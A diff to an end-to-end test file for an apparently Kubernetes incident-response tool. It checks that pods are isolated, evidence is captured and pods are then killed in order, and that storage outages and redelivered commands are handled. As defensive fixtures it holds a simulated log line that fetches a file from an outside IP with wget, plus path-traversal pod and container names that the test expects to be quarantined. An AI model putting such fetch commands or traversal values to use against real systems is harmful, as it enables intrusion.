@@ -2,13 +2,13 @@
 // in its environment, alerts sent with `riposte send`, the cluster read back with the real `kubectl`.
 // Nothing here holds a service object: the pipeline is the one `npm start` runs.
 import { type ChildProcess, execFile, spawn } from "node:child_process";
-import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { promisify } from "node:util";
 import { PubSub, type Subscription } from "@google-cloud/pubsub";
-import type { ActionOutcome } from "@riposte/contracts";
+import type { ActionOutcome, QuarantineRecord } from "@riposte/contracts";
 import { loadServices } from "@riposte/infra";
 import { freePort } from "@riposte/service-kit/testing";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
@@ -37,6 +37,27 @@ playbooks:
   - name: ledger-timeline
     match: { rules: ["Riposte e2e ledger timeline"], target: container }
     actions: [kill-pod, notify, export-finding]
+  # The default playbook's chain for Critical alerts in a container (issue 19).
+  - name: evidence-before-the-kill
+    match: { rules: ["Riposte e2e evidence"], target: container }
+    actions:
+      - isolate-pod
+      - action: capture
+        after: isolate-pod
+      - action: kill-pod
+        after: capture
+        wait: 60s
+  # The same with Cloud Storage down: the capture retries longer than the kill waits.
+  - name: evidence-storage-down
+    match: { rules: ["Riposte e2e evidence, storage down"], target: container }
+    actions:
+      - isolate-pod
+      - action: capture
+        after: isolate-pod
+        params: { retry_for: 2m }
+      - action: kill-pod
+        after: capture
+        wait: 15s
 `;
 
 let workDir: string;
@@ -46,6 +67,11 @@ let simUrl: string;
 let pubsub: PubSub;
 let outcomes: Subscription;
 const received: ActionOutcome[] = [];
+/** The commands the router publishes to capture, and what capture quarantines, as they arrive. */
+let captureCommands: Subscription;
+const capturePublished: Buffer[] = [];
+let quarantine: Subscription;
+const quarantined: QuarantineRecord[] = [];
 
 /** How many ports from the base the services' descriptors reach (offsets 0…max). */
 async function localPortSpan(): Promise<number> {
@@ -221,6 +247,16 @@ beforeAll(async () => {
     received.push(JSON.parse(message.data.toString()) as ActionOutcome);
     message.ack();
   });
+  [captureCommands] = await pubsub.topic("capture").createSubscription("npm-start-capture-commands");
+  captureCommands.on("message", (message) => {
+    capturePublished.push(message.data);
+    message.ack();
+  });
+  [quarantine] = await pubsub.topic("quarantine").createSubscription("npm-start-quarantine");
+  quarantine.on("message", (message) => {
+    quarantined.push(JSON.parse(message.data.toString()) as QuarantineRecord);
+    message.ack();
+  });
 
   // A pod in kube-system that is neither static nor DaemonSet-owned: only the namespace protects it.
   await kubectl("-n", "kube-system", "run", "coredns-e2e", "--image=registry.k8s.io/coredns/coredns:v1.11.1");
@@ -229,6 +265,8 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await outcomes?.close();
+  await captureCommands?.close();
+  await quarantine?.close();
   await pubsub?.close();
   if (dev?.pid && dev.exitCode === null) {
     const exited = new Promise((resolve) => dev.once("exit", resolve));
@@ -366,4 +404,176 @@ describe("npm start with PROTECTED_NAMESPACES and PLAYBOOKS_FILE, read back with
       expect(shown.incident.finding?.name).toContain("/findings/");
     }, 120_000);
   });
+});
+
+/** `riposte evidence ARGS` beside npm start: the ledger and the storage stand-in found through its dev state. */
+async function riposteEvidence(...args: string[]): Promise<{ code: number; out: string; err: string }> {
+  const { FIRESTORE_EMULATOR_HOST: _ledger, STORAGE_EMULATOR_HOST: _storage, ...env } = process.env;
+  try {
+    const { stdout, stderr } = await run("npx", ["riposte", "evidence", ...args], {
+      cwd: repoRoot,
+      env: { ...env, PUBSUB_EMULATOR_HOST: inject("pubsubEmulatorHost"), GOOGLE_CLOUD_PROJECT: projectId },
+    });
+    return { code: 0, out: stdout, err: stderr };
+  } catch (error) {
+    const failed = error as { code?: number; stdout?: string; stderr?: string };
+    return { code: failed.code ?? 1, out: failed.stdout ?? "", err: failed.stderr ?? "" };
+  }
+}
+
+/** The storage stand-in npm start runs (its dev state, written for this emulator and project). */
+function storageStandinUrl(): string {
+  const dir = join(repoRoot, ".riposte");
+  for (const file of readdirSync(dir).filter((name) => name.startsWith("dev") && name.endsWith(".json"))) {
+    const state = JSON.parse(readFileSync(join(dir, file), "utf8")) as {
+      projectId?: string;
+      storageEndpoint?: string;
+    };
+    if (state.projectId === projectId && state.storageEndpoint) return state.storageEndpoint;
+  }
+  throw new Error(`no dev state for project ${projectId} names a storage stand-in`);
+}
+
+/** Every object under `prefix` with its generation, through the Cloud Storage JSON API. */
+async function storedObjects(bucket: string, prefix: string): Promise<Record<string, string>> {
+  const url = `${storageStandinUrl()}/storage/v1/b/${bucket}/o?prefix=${encodeURIComponent(prefix)}`;
+  const listing = (await (await fetch(url)).json()) as { items?: { name: string; generation: string }[] };
+  return Object.fromEntries((listing.items ?? []).map((item) => [item.name, item.generation]));
+}
+
+const outcomeOf = (action: string, pod: string) =>
+  received.find((o) => o.action === action && o.target?.pod === pod);
+
+describe("evidence before the kill (issue 19), through npm start", () => {
+  const POD = "evidence-e2e";
+  let incident: string;
+
+  beforeAll(async () => {
+    await kubectl("-n", "shop", "run", POD, "--image=docker.io/library/nginx:1.25");
+    await fetch(`${simUrl}/__sim/logs`, {
+      method: "POST",
+      body: JSON.stringify({
+        namespace: "shop",
+        pod: POD,
+        current: "GET /\nwget http://203.0.113.9/x\n",
+        previous: "boot\n",
+      }),
+    });
+    await riposteSend([
+      alertAbout(await kubectlJson<PodJson>("-n", "shop", "get", "pod", POD), "Riposte e2e evidence"),
+    ]);
+    await until("the evidence pod's kill-pod outcome", () => Boolean(outcomeOf("kill-pod", POD)), 90_000);
+    incident = outcomeOf("kill-pod", POD)?.incident as string;
+  }, 120_000);
+
+  it("isolated, then its bundle kept (logs included), then — only then — deleted; incidents show has the order and times", async () => {
+    const [isolated, captured, killed] = ["isolate-pod", "capture", "kill-pod"].map((action) =>
+      outcomeOf(action, POD),
+    );
+    expect(isolated, isolated?.reason).toMatchObject({ result: "done" });
+    expect(captured, captured?.reason).toMatchObject({ result: "done" });
+    expect(killed, killed?.reason).toMatchObject({ result: "done" });
+    const at = (outcome?: ActionOutcome) => Date.parse(outcome?.at ?? "");
+    expect(at(isolated)).toBeLessThanOrEqual(at(captured));
+    expect(at(captured)).toBeLessThanOrEqual(at(killed));
+    await expect(kubectl("-n", "shop", "get", "pod", POD)).rejects.toThrow(/NotFound|not found/);
+    expect(await kubectl("-n", "shop", "get", "networkpolicies", "-o", "name")).toMatch(/riposte/);
+
+    const out = mkdtempSync(join(tmpdir(), "riposte-evidence-get-"));
+    const got = await riposteEvidence("get", incident, "--out", out);
+    expect(got.code, got.err).toBe(0);
+    expect(readFileSync(join(out, `logs/${POD}.log`), "utf8")).toBe("GET /\nwget http://203.0.113.9/x\n");
+    expect(JSON.parse(readFileSync(join(out, "pod.json"), "utf8")).metadata.name).toBe(POD);
+
+    const shown = await riposteIncidents("show", incident);
+    const line = (action: string) =>
+      shown.split("\n").findIndex((text) => new RegExp(`\\s${action}\\s+DONE`).test(text));
+    expect(line("isolate-pod"), shown).toBeGreaterThan(0);
+    expect(line("capture")).toBeGreaterThan(line("isolate-pod"));
+    expect(line("kill-pod")).toBeGreaterThan(line("capture"));
+    expect(shown).toContain("kill-pod (after capture, ≤ 60 s)");
+    expect(shown).toMatch(/\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\S*\s+capture\s+DONE/);
+  });
+
+  it("a redelivered capture writes nothing twice, and riposte evidence get verifies every hash", async () => {
+    const listed = JSON.parse((await riposteEvidence("list", incident, "--json")).out) as {
+      location: string;
+      objects: { name: string }[];
+    };
+    const [, bucket = "", prefix = ""] = /^gs:\/\/([^/]+)\/(.*)$/.exec(listed.location) ?? [];
+    const before = await storedObjects(bucket, prefix);
+    expect(Object.keys(before)).toHaveLength(listed.objects.length + 1);
+    const command = capturePublished.find((data) => data.toString().includes(incident));
+    expect(command).toBeDefined();
+    const capturesBefore = received.filter((o) => o.action === "capture" && o.incident === incident).length;
+    await pubsub.topic("capture").publishMessage({ data: command as Buffer });
+    await until(
+      "the redelivered capture's outcome",
+      (all) => all.filter((o) => o.action === "capture" && o.incident === incident).length > capturesBefore,
+    );
+    expect(received.filter((o) => o.action === "capture" && o.incident === incident).at(-1)?.result).toBe(
+      "already-done",
+    );
+    expect(await storedObjects(bucket, prefix)).toEqual(before);
+    const again = await riposteEvidence(
+      "get",
+      incident,
+      "--out",
+      mkdtempSync(join(tmpdir(), "riposte-evidence-again-")),
+    );
+    expect(again.code, again.err).toBe(0);
+  });
+
+  it("a capture command with a hostile pod or container name is quarantined, with the reason", async () => {
+    const command = JSON.parse(
+      (capturePublished.find((data) => data.toString().includes(incident)) as Buffer).toString(),
+    );
+    const hostile = [
+      { ...command, target: { ...command.target, pod: "../../other-incident" } },
+      { ...command, target: { ...command.target, containerName: "web/../../x" } },
+    ];
+    for (const message of hostile) await pubsub.topic("capture").publishMessage({ json: message });
+    await until(
+      "two quarantine records from capture",
+      () => quarantined.filter((q) => q.service === "capture").length >= 2,
+    );
+    const reasons = quarantined
+      .filter((q) => q.service === "capture")
+      .map((q) => `${q.reason.path}: ${q.reason.message}`);
+    expect(reasons).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/target\.pod.*not a valid pod name/),
+        expect.stringMatching(/target\.containerName.*not a valid container name/),
+      ]),
+    );
+  });
+
+  it("Cloud Storage failing every upload: the pod is still deleted when the wait runs out, and the capture outcome says why", async () => {
+    const DOWN = "evidence-down-e2e";
+    const faults = await fetch(`${storageStandinUrl()}/__standin/faults`, {
+      method: "POST",
+      body: JSON.stringify({ on: "upload", status: 503, times: 1_000_000 }),
+    });
+    expect(faults.status).toBe(204);
+    try {
+      await kubectl("-n", "shop", "run", DOWN, "--image=docker.io/library/nginx:1.25");
+      const sentAt = Date.now();
+      await riposteSend([
+        alertAbout(
+          await kubectlJson<PodJson>("-n", "shop", "get", "pod", DOWN),
+          "Riposte e2e evidence, storage down",
+        ),
+      ]);
+      await until("the kill despite the storage outage", () => Boolean(outcomeOf("kill-pod", DOWN)), 90_000);
+      expect(outcomeOf("kill-pod", DOWN)).toMatchObject({ result: "done" });
+      // It waited for the capture until its 15 s were over (the capture had no outcome).
+      expect(Date.parse(outcomeOf("kill-pod", DOWN)?.at ?? "") - sentAt).toBeGreaterThanOrEqual(14_000);
+      await expect(kubectl("-n", "shop", "get", "pod", DOWN)).rejects.toThrow(/NotFound|not found/);
+      await until("the capture's outcome", () => Boolean(outcomeOf("capture", DOWN)), 120_000);
+      expect(outcomeOf("capture", DOWN)?.result).not.toBe("done");
+      expect(outcomeOf("capture", DOWN)?.reason).toMatch(/Cloud Storage answered 503/);
+    } finally {
+      await fetch(`${storageStandinUrl()}/__standin/faults`, { method: "DELETE" });
+    }
+  }, 240_000);
 });
